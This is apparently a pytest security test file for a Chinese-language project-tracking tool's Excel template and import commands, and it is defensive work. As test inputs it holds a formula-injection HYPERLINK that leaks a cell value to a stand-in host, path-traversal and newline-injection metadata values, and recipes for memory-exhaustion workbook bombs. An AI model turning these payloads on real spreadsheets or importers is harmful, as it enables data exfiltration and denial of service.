"""Hostile text and hostile workbooks: the template holds no formula, import refuses bombs."""

from __future__ import annotations

import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from site_builder.office.excel.zipcheck import MAX_UNCOMPRESSED

from conftest import invoke

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B4,"点击")'


def _rename_project(root: Path, project: str, name: str) -> None:
    path = root / f"submissions/projects/{project}/project.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("name: 测试企业项目", f"name: '{name}'"), encoding="utf-8")


def test_template_with_a_formula_as_project_name_has_no_formula_cell(base_tree, tmp_path):
    _rename_project(base_tree, "beta-firm", FORMULA)
    out = tmp_path / "b.xlsx"
    result = invoke("template", "beta-firm", "2021-Q2", "-o", str(out), "--root", str(base_tree))
    assert result.returncode == 0, result.stderr
    book = openpyxl.load_workbook(out)
    formulas = [
        f"{ws.title}!{c.coordinate}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == []
    texts = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert any(isinstance(v, str) and FORMULA in v for v in texts)  # shown, as text


# --- workbooks built to exhaust memory ----------------------------------------------


def _template(root: Path, tmp_path: Path, period: str = "2021-Q2") -> Path:
    """A template; for 2021-Q1 prefilled from the report, so it imports (with --force)."""
    out = tmp_path / "t.xlsx"
    result = invoke("template", "beta-firm", period, "-o", str(out), "--root", str(root))
    assert result.returncode == 0, result.stderr
    return out


def _rewrite(workbook: Path, change) -> Path:
    """A copy of the workbook with its first data sheet's XML passed through `change`."""
    source = zipfile.ZipFile(workbook)
    target = workbook.with_name("hostile.xlsx")
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet2.xml":
                data = change(data)
            out.writestr(info.filename, data)
    return target


BOMBS = {
    "far cell": lambda xml: xml.replace(
        b"</sheetData>",
        b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>',
    ),
    "merged range": lambda xml: xml.replace(
        b"</worksheet>",
        b'<mergeCells count="1"><mergeCell ref="A1:CV4000"/></mergeCells></worksheet>',
    ),
    "compressed padding": lambda xml: xml.replace(
        # Just past the limit: compressing more spaces only makes the test slower.
        b"</worksheet>",
        b" " * (MAX_UNCOMPRESSED + 1_000_000) + b"</worksheet>",
    ),
    "many cells": lambda xml: xml.replace(
        b"</sheetData>",
        b"".join(
            b'<row r="%d">' % r + b"".join(b"<c><v>1</v></c>" for _ in range(90)) + b"</row>"
            for r in range(100, 3100)
        )
        + b"</sheetData>",
    ),
}


@pytest.mark.parametrize("kind", BOMBS)
def test_a_workbook_bomb_is_refused_before_loading(base_tree, tmp_path, kind):
    hostile = _rewrite(_template(base_tree, tmp_path), BOMBS[kind])
    assert hostile.stat().st_size < 20_000_000
    started = time.monotonic()
    result = invoke("import", str(hostile), "--root", str(base_tree))
    assert time.monotonic() - started < 10
    assert result.returncode == 1
    assert "拒绝读取" in result.stderr + result.stdout


# --- hostile names and hidden values ------------------------------------------------


def _edit(workbook: Path, change, name: str = "edited.xlsx") -> Path:
    book = openpyxl.load_workbook(workbook)
    change(book)
    target = workbook.with_name(name)
    book.save(target)
    return target


def _set_meta(key: str, value: str):
    def change(book):
        ws = book["_sctrack"]
        for row in ws.iter_rows():
            if row[0].value == key:
                row[1].value = value

    return change


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("project", "../../../../etc"),
        ("project", "beta-firm/../../../etc"),
        ("project", "beta-firm\n# injected"),
        ("period", "２０２１-Q2"),
        ("kind", "../region"),
    ],
)
def test_hostile_meta_values_are_refused_without_reaching_outside(base_tree, tmp_path, key, value):
    hostile = _edit(_template(base_tree, tmp_path), _set_meta(key, value))
    result = invoke("import", str(hostile), "--root", str(base_tree))
    assert result.returncode == 1
    output = result.stdout + result.stderr
    assert "不是用 sctrack template 生成" in output or "不是" in output
    assert "passwd" not in output and "hostname" not in output  # /etc not listed
    assert not list(base_tree.rglob("*.yaml.tmp"))


def test_a_workbook_name_with_a_newline_is_a_finding_not_a_traceback(base_tree, tmp_path):
    filled = _template(base_tree, tmp_path, "2021-Q1")
    hostile = _edit(filled, lambda book: None, "a\nb: x\u2028c.xlsx")
    result = invoke("import", str(hostile), "--root", str(base_tree), "--force")
    assert result.returncode == 0, result.stderr
    assert "\nb: x" not in result.stdout + result.stderr
    written = (base_tree / "submissions/projects/beta-firm/2021-Q1.yaml").read_text("utf-8")
    assert "\nb: x" not in written  # the name is quoted on one comment line


def test_a_duplicate_hidden_key_row_is_an_error(base_tree, tmp_path):
    def duplicate(book):
        for ws in book.worksheets:
            if not str(ws["A1"].value).startswith("#part:"):
                continue
            keys = [(c.row, c.value) for c in ws["A"] if isinstance(c.value, str)]
            forms = [(r, k) for r, k in keys if not k.startswith("#")]
            if len(forms) >= 2:
                (first_row, first_key), (second_row, _) = forms[:2]
                ws.cell(first_row, 3).value = "可见的内容"
                ws.cell(second_row, 1).value = first_key  # a second row for the same item
                ws.cell(second_row, 3).value = "隐藏行覆盖的内容"
                return

    hostile = _edit(_template(base_tree, tmp_path, "2021-Q1"), duplicate)
    result = invoke("import", str(hostile), "--root", str(base_tree), "--force")
    assert result.returncode == 1
    assert "S014" in result.stdout + result.stderr


@pytest.mark.parametrize("character", ["\x7f", "\x85", "\x9b"])
def test_a_control_character_in_a_cell_is_an_error_at_that_cell(base_tree, tmp_path, character):
    # XML 1.0 carries these (openpyxl writes and reads them); Excel and the pages cannot.
    def poison(book):
        ws = book["组织保障"]
        for row in ws.iter_rows(min_col=1, max_col=3):
            if isinstance(row[0].value, str) and not row[0].value.startswith("#"):
                row[2].value = f"正文{character}结尾"
                return

    hostile = _edit(_template(base_tree, tmp_path, "2021-Q1"), poison)
    result = invoke("import", str(hostile), "--root", str(base_tree), "--force")
    assert result.returncode == 1
    assert "S013" in result.stdout + result.stderr and "组织保障!C" in result.stdout + result.stderr


def test_numbers_typed_as_text_are_read_in_ascii_digits_only():
    from site_builder.office.excel.values import _number

    assert _number("123.5") == 123.5 and _number(" 42 ") == 42
    assert _number("\u0661\u0662\u0663") is None  # Arabic-Indic digits
    assert _number("\uff11\uff12\uff13") is None  # full-width digits
    assert _number("9" * 401) is None  # overflows to infinity
